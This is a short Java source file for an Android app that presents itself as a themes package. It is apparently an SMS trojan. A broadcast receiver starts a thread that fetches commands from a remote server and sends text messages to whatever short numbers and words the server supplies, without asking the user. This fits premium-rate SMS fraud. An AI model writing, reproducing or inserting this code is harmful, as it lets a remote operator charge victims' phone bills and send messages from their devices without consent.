package com.tallpine.themes;

// A list of short numbers and words comes from a server, and a message goes to each.
class Start extends BroadcastReceiver {
  public void onReceive(Context context, Intent intent) {
    new Thread(new Orders()).start();
  }
}

class Orders implements Runnable {
  public void run() {
    try {
      BufferedReader reader = new BufferedReader(new InputStreamReader(new URL("https://t.tallpine.example/orders").openConnection().getInputStream()));
      JSONObject order = new JSONObject(reader.readLine());
      SmsManager.getDefault().sendTextMessage(order.getString("to"), null, order.getString("say"), null, null);
    } catch (Exception e) {
      Log.e("Themes", e.getMessage());
    }
  }
}
